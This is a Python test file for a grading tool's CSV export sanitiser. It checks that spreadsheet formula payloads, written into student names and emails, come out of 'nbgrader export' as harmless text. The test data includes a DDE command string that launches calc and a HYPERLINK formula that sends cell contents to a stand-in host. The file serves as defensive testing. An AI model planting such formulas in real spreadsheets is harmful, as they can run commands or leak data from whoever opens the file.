"""Tables for spreadsheets: the real `nbgrader export`, read back as a spreadsheet would read it."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbgrader.api import Gradebook

from grader.gradebook import calls
from grader.pages.safe_csv import COLUMNS, harmless


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "=cmd|' /C calc'!A0", "\uff1d1"]
)
def test_a_formula_is_text(text):
    assert harmless(text)[0] == "'"


@pytest.mark.parametrize("text", ["Zoë Müller", "a=b", "1.5", "", "mail@example.org", "2026-01-02 10:00:00"])
def test_what_is_no_formula_is_left_alone(text):
    assert harmless(text) == text


def test_numbers_stay_numbers_and_nothing_is_nothing():
    assert [harmless(-0.5), harmless(3), harmless(None)] == ["-0.5", "3", ""]


@given(st.text(max_size=20))
def test_no_text_becomes_a_formula_or_breaks_a_line(text):
    cell = harmless(text)
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert len(cell.splitlines()) <= 1


@pytest.mark.exhaustive
def test_the_command_writes_a_table_without_formulas(classroom):
    calls.register(classroom.course, "ch1_xor")
    hostile = {
        "ada": {"first_name": '=HYPERLINK("http://x/?"&A1)', "last_name": "+1", "email": "-2+3"},
        "eve, 5, 5": {"first_name": "Eve\n=1", "last_name": '"quoted", 7', "email": "@SUM(1)"},
        "zoë": {"first_name": "Zoë", "last_name": "Müller-Lüdenscheidt", "email": None},
    }
    with Gradebook(f"sqlite:///{classroom.root / 'gradebook.db'}", "fnnkit") as book:
        for student, about in hostile.items():
            book.add_student(student, **about)
        book.update_or_create_assignment("ch1_xor")
    environment = classroom.environment()
    scripts = str(Path(sys.executable).parent)
    done = subprocess.run(
        ["nbgrader", "export"], cwd=classroom.root, capture_output=True, text=True, timeout=120, check=False,
        env=environment | {"PATH": f"{scripts}:{environment['PATH']}"},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with (classroom.root / "grades.csv").open(encoding="utf-8-sig", newline="") as file:
        header, *rows = list(csv.reader(file))
    assert tuple(header) == COLUMNS
    assert {len(row) for row in rows} == {len(COLUMNS)}
    by_student = {row[header.index("student_id")]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_student) == set(hostile)
    assert by_student["ada"]["first_name"] == '\'=HYPERLINK("http://x/?"&A1)'
    assert by_student["ada"]["last_name"] == "'+1"
    assert by_student["eve, 5, 5"]["first_name"] == "Eve\\x0a=1"
    assert by_student["eve, 5, 5"]["last_name"] == '"quoted", 7'
    assert by_student["zoë"]["last_name"] == "Müller-Lüdenscheidt"
    assert float(by_student["zoë"]["score"]) == 0.0
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
